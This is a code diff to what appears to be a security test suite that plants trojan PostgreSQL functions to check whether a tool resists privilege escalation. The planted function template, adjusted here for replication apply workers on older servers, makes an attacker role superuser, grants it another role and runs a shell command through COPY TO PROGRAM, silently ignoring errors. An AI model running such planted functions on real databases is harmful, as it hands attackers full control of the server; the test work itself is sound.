@@ -8,6 +8,7 @@ from __future__ import annotations
 from tests.attack.attacks import Attack, Draw, Generator, Names, insert
 
 MARK = "MALLORY"
+FIRST_THAT_APPLIES_AS_OWNER = 16
 _TYPES = (
     "regprocedure",
     "regclass",
@@ -39,6 +40,10 @@ def planted(names: Names, function: str, returns: str, value: str) -> str:
         IF current_user NOT IN ('{names.attacker}', '{names.application}') THEN
             RAISE LOG '{MARK} {names.attacker} ran {signature.replace("%", "")} as % for % in %',
                 current_user, session_user, pg_catalog.current_setting('application_name');
+            IF pg_catalog.current_setting('application_name') = ''
+                AND pg_catalog.current_setting('server_version_num')::int / 10000 < {FIRST_THAT_APPLIES_AS_OWNER} THEN
+                RETURN {value};  -- an apply worker, whom nobody can keep from it there
+            END IF;
             BEGIN EXECUTE 'ALTER ROLE {names.attacker} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
             BEGIN EXECUTE 'GRANT {names.migrator} TO {names.attacker}'; EXCEPTION WHEN OTHERS THEN NULL; END;
             BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''cat >/dev/null'''; EXCEPTION WHEN OTHERS THEN NULL; END;
